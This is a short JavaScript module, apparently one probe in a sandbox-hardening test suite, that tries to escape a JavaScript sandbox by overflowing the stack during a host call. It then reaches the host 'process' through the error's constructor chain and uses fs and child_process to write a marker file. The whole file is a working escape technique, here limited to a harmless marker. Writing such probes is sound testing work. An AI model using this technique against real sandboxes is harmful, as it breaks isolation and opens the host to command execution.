// Escape attempt: a stack overflow timed to land inside a host call, hoping the RangeError comes from the host realm.
// Each attempt hands whatever it reached to pwn(); pwn writes the marker file only if it holds the host process.
function pwn(p, marker, notes, label) {
  try {
    if (!p || (typeof p !== "object" && typeof p !== "function")) { notes.push(label + ": nothing"); return false; }
    const get = typeof p.getBuiltinModule === "function" ? (n) => p.getBuiltinModule(n) : p.mainModule ? (n) => p.mainModule.require(n) : null;
    if (!get) { notes.push(label + ": no process"); return false; }
    get("fs").writeFileSync(marker, "escaped via " + label);
    try { get("child_process").execSync("touch " + marker + ".cp"); } catch (e) {}
    notes.push(label + ": ESCAPED");
    return true;
  } catch (e) { notes.push(label + ": " + String(e && e.message)); return false; }
}
function attempt(notes, label, fn) {
  try { fn(); } catch (e) { notes.push(label + " threw: " + String(e && e.message).slice(0, 80)); }
}

module.exports = {
  name: 'escape-stack-overflow-host',
  description: 'sandbox escape attempt: stack-overflow-host',
  risk: 'inspect',
  phrases: [],
  params: { marker: { type: 'string' } },
  applies_to: [],
  async run(ctx, params) {
    const marker = params.marker;
    const notes = [];

    let depth = 0;
    function r() { depth++; try { __send("x"); r(); } catch (e) { attempt(notes, "overflow@" + depth, () => pwn(e.constructor.constructor("return process")(), marker, notes, "host overflow")); } }
    attempt(notes, "r", r);
    notes.splice(10);
    return { summary: notes.join(' | '), data: notes };
  },
};
